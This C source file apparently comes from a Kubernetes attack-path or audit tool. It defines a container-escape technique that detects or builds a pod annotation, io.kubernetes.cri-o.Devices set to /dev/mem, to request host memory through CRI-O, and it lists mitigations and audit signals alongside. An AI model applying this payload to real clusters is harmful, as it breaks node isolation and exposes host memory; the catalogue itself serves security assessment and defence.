// No object tells which annotations a runtime honours. Pod Security does not look at them. Holds in a user namespace.
#include "attack/technique.h"
#include "attack/technique/build.h"

static bool has(const struct pod_view *v, struct host_proof *proof)
{
	member_each(m, value_get(v->meta, KEY_annotations)) {
		span key = intern_text(v->keys, m->key);
		if (span_starts(key, SPAN("io.kubernetes.cri-o.Devices"))) {
			proof->at = &m->v;
			proof->field = arena_printf(proof->arena, "metadata.annotations[%.*s]", SPANF(key));
			return true;
		}
	}
	return false;
}

static bool arm(struct payload *p)
{
	if (p->alternative > 0)
		return false;
	build_annotation(p, "io.kubernetes.cri-o.Devices", SPAN("/dev/mem"));
	return true;
}

const struct technique technique_annot_crio_devices = {
	.id = "annot-crio-devices",
	.title = "Ask CRI-O for a device by annotation",
	.kind = TECHNIQUE_PATH,
	.boundary = BOUNDARY_HOST,
	.harm = HARM_CONFIDENTIALITY | HARM_INTEGRITY | HARM_AVAILABILITY,
	.attack = "T1611",
	.matrix = "",
	.needs = "An annotation that the node's CRI-O honours, such as io.kubernetes.cri-o.Devices",
	.gives = "devices, or other privileges, of the node that no field of the pod shows",
	.fixes =
		"Keep allowed_annotations of CRI-O's runtimes empty\n"
		"Allow only listed annotation keys on pods by admission policy",
	.audit = "create of pods with annotations below io.kubernetes.cri-o",
	.source = "cri-o/cri-o pkg/annotations, docs/crio.conf.5.md allowed_annotations",
	.undecided = "the allowed_annotations of the node's CRI-O configuration",
	.from = POSITION_POD,
	.effect = EFFECT_NODE,
	.has = has,
	.arm = arm,
};
